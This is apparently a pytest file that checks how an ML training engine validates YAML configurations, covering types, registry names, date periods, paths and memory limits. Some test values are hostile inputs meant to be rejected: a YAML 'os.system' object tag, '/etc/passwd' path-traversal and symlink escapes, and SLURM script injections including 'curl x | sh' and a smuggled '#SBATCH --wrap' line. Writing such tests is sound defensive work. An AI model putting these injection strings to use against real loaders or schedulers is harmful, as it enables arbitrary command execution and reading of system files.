"""Bad configurations (YAML text and files, as the command line and the dashboard read them)."""

from __future__ import annotations

import os

import pytest

from engine.config import ExperimentConfig
from tests.badinput.conftest import Case, land, params

BASE = "name: bad\ndata: {patch_size: 32}\nmodel: {filters: 8, blocks: 1}\n" \
       "training: {epochs: 1, samples_per_epoch: 32, batch_size: 8}\n"


def cfg(text: str):
    """Parse and validate YAML like `python -m engine train` does."""
    return lambda env: ExperimentConfig.from_yaml(text + ("\n" if "\n" not in text else "")).validate()


def over(section: str, body: str):
    """The base configuration with ``section`` replaced by a flow mapping ``body``."""
    lines = [ln for ln in BASE.splitlines() if not ln.startswith(section + ":")]
    return cfg("\n".join(lines) + f"\n{section}: {body}\n")


def msg(id, run, *words):
    return Case(id, "message", run, tuple(words))


def ok(id, run, check):
    return Case(id, "result", run, check=check)


CASES = [
    # -- booleans, integers, numbers: strict -------------------------------------------------------
    ok("residual-string-false", over("model", "{filters: 8, blocks: 1, residual: 'false'}"), lambda c: c.model.residual is False),
    ok("residual-string-no", over("model", "{filters: 8, blocks: 1, residual: 'No'}"), lambda c: c.model.residual is False),
    ok("residual-string-true", over("model", "{filters: 8, blocks: 1, residual: 'TRUE'}"), lambda c: c.model.residual is True),
    msg("residual-maybe", over("model", "{filters: 8, blocks: 1, residual: maybe}"), "model.residual='maybe'", "true or false"),
    msg("lcb-integer", over("model", "{filters: 8, blocks: 1, lcb: 1}"), "model.lcb=1", "true or false"),
    msg("lcb-list", over("model", "{filters: 8, blocks: 1, lcb: [true]}"), "model.lcb=[True]", "true or false"),
    msg("epochs-text", over("training", "{epochs: abc, samples_per_epoch: 32, batch_size: 8}"), "training.epochs='abc'", "integer"),
    msg("epochs-fraction", over("training", "{epochs: 2.5, samples_per_epoch: 32, batch_size: 8}"), "training.epochs=2.5", "integer"),
    msg("epochs-boolean", over("training", "{epochs: true, samples_per_epoch: 32, batch_size: 8}"), "training.epochs=True", "integer"),
    msg("epochs-zero", over("training", "{epochs: 0, samples_per_epoch: 32, batch_size: 8}"), "training.epochs=0", ">= 1"),
    ok("epochs-quoted-number", over("training", "{epochs: '3', samples_per_epoch: 32, batch_size: 8}"), lambda c: c.training.epochs == 3),
    ok("epochs-float-integral", over("training", "{epochs: 3.0, samples_per_epoch: 32, batch_size: 8}"),
       lambda c: c.training.epochs == 3 and isinstance(c.training.epochs, int)),
    msg("lr-text", over("training", "{lr: fast, epochs: 1, samples_per_epoch: 32, batch_size: 8}"), "training.lr='fast'", "number"),
    msg("lr-infinite", over("training", "{lr: .inf, epochs: 1, samples_per_epoch: 32, batch_size: 8}"), "training.lr=inf", "finite number"),
    msg("lr-nan", over("training", "{lr: .nan, epochs: 1, samples_per_epoch: 32, batch_size: 8}"), "training.lr=nan", "finite number"),
    msg("lr-zero", over("training", "{lr: 0, epochs: 1, samples_per_epoch: 32, batch_size: 8}"), "training.lr=0", "0 < lr < 10"),
    ok("lr-yaml11-exponent", over("training", "{lr: 1e-3, epochs: 1, samples_per_epoch: 32, batch_size: 8}"),
       lambda c: c.training.lr == pytest.approx(0.001)),
    msg("dropout-one", over("model", "{filters: 8, blocks: 1, dropout: 1.5}"), "model.dropout=1.5", "0 <= dropout < 1"),
    msg("scale-text", over("data", "{patch_size: 32, scale: four}"), "data.scale='four'", "integer"),
    msg("scale-zero", over("data", "{patch_size: 32, scale: 0}"), "data.scale=0", ">= 1"),
    msg("patch-not-multiple", over("data", "{patch_size: 30, scale: 4}"), "data.patch_size=30", "multiples of 4"),
    msg("samples-below-batch", over("training", "{epochs: 1, samples_per_epoch: 4, batch_size: 16}"),
        "training.samples_per_epoch=4", "training.batch_size=16", "samples_per_epoch >= batch_size"),
    msg("ssim-tiny-patch", cfg(BASE.replace("patch_size: 32", "patch_size: 8, scale: 2").replace(
        "training: {", "training: {loss: dssim, ")), "data.patch_size=8", "dssim", "data.patch_size >= 11"),
    msg("msssim-tiny-patch", cfg(BASE.replace("patch_size: 32", "patch_size: 8, scale: 2").replace(
        "training: {", "training: {loss: '0.8*msdssim+0.2*mae', ")), "msdssim", "8 x 8", "a loss without SSIM"),
    # -- names checked against registries ------------------------------------------------------------
    msg("backbone-unknown", over("model", "{filters: 8, blocks: 1, backbone: resnet50}"), "model.backbone='resnet50'", "accepted:", "resnet"),
    msg("backbone-boolean", over("model", "{filters: 8, blocks: 1, backbone: yes}"), "model.backbone=True", "expected text"),
    msg("upsampling-unknown", over("model", "{filters: 8, blocks: 1, upsampling: magic}"), "model.upsampling='magic'", "accepted:"),
    msg("loss-unknown", over("training", "{loss: huber2, epochs: 1, samples_per_epoch: 32, batch_size: 8}"), "'huber2'", "accepted:", "mae"),
    msg("loss-negative-weight", over("training", "{loss: '0.5*mae+-1*mse', epochs: 1, samples_per_epoch: 32, batch_size: 8}"),
        "training.loss='0.5*mae+-1*mse'", "mae"),
    msg("optimizer-unknown", over("training", "{optimizer: lion, epochs: 1, samples_per_epoch: 32, batch_size: 8}"),
        "training.optimizer='lion'", "adam"),
    msg("precision-unknown", over("training", "{precision: fp8, epochs: 1, samples_per_epoch: 32, batch_size: 8}"),
        "training.precision='fp8'", "bf16-mixed"),
    msg("device-unknown", over("training", "{device: tpu, epochs: 1, samples_per_epoch: 32, batch_size: 8}"), "training.device='tpu'", "cuda"),
    msg("launcher-unknown", cfg(BASE + "launch: {launcher: cluster}\n"), "launch.launcher='cluster'", "local", "slurm"),
    msg("normalisation-unknown", over("data", "{patch_size: 32, normalisation: zscore9}"), "data.normalisation='zscore9'", "accepted:"),
    msg("static-unknown", over("data", "{patch_size: 32, static: [roads]}"), "data.static='roads'", "elevation"),
    msg("downscaling-unknown", over("data", "{patch_size: 32, downscaling: statistical}"), "data.downscaling='statistical'", "mos"),
    msg("missing-input-unknown", over("data", "{patch_size: 32, missing_input: ignore}"), "data.missing_input='ignore'", "refuse", "mask"),
    msg("bbox-inverted", over("data", "{patch_size: 32, bbox: [48, 45, 6, 12]}"), "data.bbox=(48, 45, 6, 12)", "min < max"),
    # -- periods and dates -----------------------------------------------------------------------------
    ok("dates-unquoted", over("data", "{patch_size: 32, train_period: [2001-01-01, 2002-12-31]}"),
       lambda c: c.data.train_period == ("2001-01-01", "2002-12-31")),
    msg("period-month-13", over("data", "{patch_size: 32, train_period: ['2001-13', '2002']}"), "data.train_period", "ISO dates"),
    msg("period-reversed", over("data", "{patch_size: 32, val_period: [2003-06-30, 2003-01-01]}"), "data.val_period", "ends before it starts"),
    msg("test-equals-train", over("data", "{patch_size: 32, test_period: [2001-01-01, 2002-12-31]}"),
        "data.train_period=['2001-01-01', '2002-12-31']", "data.test_period", "overlap", "data.allow_overlap"),
    msg("val-overlaps-train-by-a-day", over("data", "{patch_size: 32, val_period: [2002-12-31, 2003-06-30]}"),
        "data.val_period", "overlap"),
    ok("overlap-allowed-on-purpose", over("data", "{patch_size: 32, test_period: [2001-01-01, 2002-12-31], allow_overlap: true}"),
       lambda c: c.data.allow_overlap is True),
    # -- structure -----------------------------------------------------------------------------------------
    msg("unknown-section", cfg(BASE + "optimiser: {lr: 0.1}\n"), "unknown configuration section", "optimiser", "accepted"),
    msg("unknown-field", over("training", "{epochs: 1, samples_per_epoch: 32, batch_size: 8, epoch: 3}"), "'epoch'", "accepted"),
    msg("section-not-mapping", cfg(BASE + "launch: local\n"), "section 'launch' must be a mapping"),
    msg("yaml-list", cfg("- a\n- b\n"), "must be a mapping", "list"),
    msg("yaml-syntax", cfg("name: x\ndata: {patch_size: 32\n"), "line 3", "not valid YAML"),
    msg("yaml-tab-indent", cfg("name: x\ndata:\n\tpatch_size: 32\n"), "line 3", "not valid YAML"),
    msg("yaml-python-object", cfg("name: !!python/object/apply:os.system ['touch /tmp/pwned']\n"), "not valid YAML"),
    # -- what a configuration may point at ---------------------------------------------------------------------
    msg("regression-run-parent", cfg(BASE.replace("training: {", "training: {learning: diffusion, ") + "model: {regression_run: ../elsewhere}\n"
                                     ), "model.regression_run='../elsewhere'", "not a run id"),
    msg("regression-run-absolute", cfg(BASE.replace("training: {", "training: {learning: diffusion, ")
                                       + "model: {regression_run: /etc}\n"), "model.regression_run='/etc'", "not a run id"),
    msg("catalog-etc-passwd", over("data", "{patch_size: 32, catalog: /etc/passwd}"), "data.catalog='/etc/passwd'", "outside the allowed folders",
        "FINESCALE_DATA_ROOTS"),
    msg("catalog-dotdot-escape", lambda env: ExperimentConfig.from_yaml(
        BASE + f"data: {{patch_size: 32, catalog: '{env.data}/../../../etc/passwd'}}\n").validate(), "outside the allowed folders"),
    # -- SLURM script injection ------------------------------------------------------------------------------------
    msg("slurm-setup-line", cfg(BASE + "launch: {launcher: slurm, extra: {setup: ['touch /tmp/pwned; curl x | sh']}}\n"),
        "launch.extra.setup", "site launcher configuration", "accepted in launch.extra"),
    msg("slurm-comment-newline", cfg(BASE + 'launch: {launcher: slurm, extra: {comment: "x\\n#SBATCH --wrap=touch /tmp/pwned"}}\n'),
        "launch.extra.comment", "newline"),
    msg("slurm-unknown-option", cfg(BASE + "launch: {launcher: local, extra: {wrap: 'touch /tmp/pwned'}}\n"),
        "launch.extra.wrap", "accepted:", "constraint"),
    msg("slurm-partition-injection", cfg(BASE + "launch: {launcher: slurm, partition: 'debug --wrap=id'}\n"),
        "launch.partition='debug --wrap=id'", "SLURM name"),
]


@pytest.mark.parametrize("case", params(CASES))
def test_configuration(case, env):
    land(case, env)


def test_catalog_inside_the_data_root_is_accepted_and_a_link_out_is_not(env):
    inside = env.data / "mine.yaml"
    inside.write_text("sources: {}\n")
    cfg_ok = ExperimentConfig.from_yaml(BASE + f"data: {{patch_size: 32, catalog: '{inside}'}}\n").validate()
    assert cfg_ok.data.catalog == str(inside)
    link = env.data / "link.yaml"
    link.symlink_to("/etc/passwd")
    land(Case("catalog-symlink-out", "message", lambda e: ExperimentConfig.from_yaml(
        BASE + f"data: {{patch_size: 32, catalog: '{link}'}}\n").validate(),
        ("outside the allowed folders", "/etc/passwd")), env)


@pytest.mark.parametrize("content, words", [
    (b"\x00\x01\xff\xfe garbage", ("cannot be read as text",)),
    (b"name: x\ndata: {patch_size: [\n", ("bad.yaml", "line 3", "not valid YAML")),
])
def test_configuration_files_name_the_file(env, content, words):
    path = env.tmp / "bad.yaml"
    path.write_bytes(content)
    land(Case("file", "message", lambda e: ExperimentConfig.from_yaml(path), words), env)


def test_cli_train_refuses_with_exit_2_and_writes_nothing(env, capsys):
    from engine.cli import main

    path = env.tmp / "evil.yaml"
    path.write_text(BASE + "launch: {launcher: slurm, extra: {setup: ['touch /tmp/pwned']}}\n")
    assert main(["--runs", str(env.runs), "train", str(path)]) == 2
    assert "site launcher configuration" in capsys.readouterr().err
    assert not os.listdir(env.runs)


def test_a_model_too_large_for_memory_is_refused_with_its_estimate(env, monkeypatch):
    from engine.config import ConfigError
    from engine.launch import resources, submit
    from engine.runs import RunStore

    big = ExperimentConfig.from_yaml(BASE).replace(data={"patch_size": 64}, model={"filters": 256, "blocks": 16},
                                                   training={"batch_size": 512, "samples_per_epoch": 512})
    estimate = resources.estimate_training_memory(big)
    # worked out by hand from the same parts: 16 bytes a parameter, outputs kept for backward
    assert estimate["parameter_bytes"] == 16 * estimate["parameters"] and estimate["parameters"] > 10_000_000
    monkeypatch.setattr(resources, "_mem_available", lambda: 8 * 2**30)  # an 8 GiB laptop
    with pytest.raises(ConfigError, match=r"does not fit in memory: training needs about .* GiB .* parameters .*"
                                          r"batch of 512 fields of 64 x 64 .* of the 8.0 GiB .*smaller training.batch_size"):
        submit(big.replace(launch={"launcher": "local"}), RunStore(env.runs))
    assert not list(env.runs.iterdir())
    small = ExperimentConfig.from_yaml(BASE)
    assert resources.check_fits(small)["total_bytes"] < 2**30  # the tiny one fits
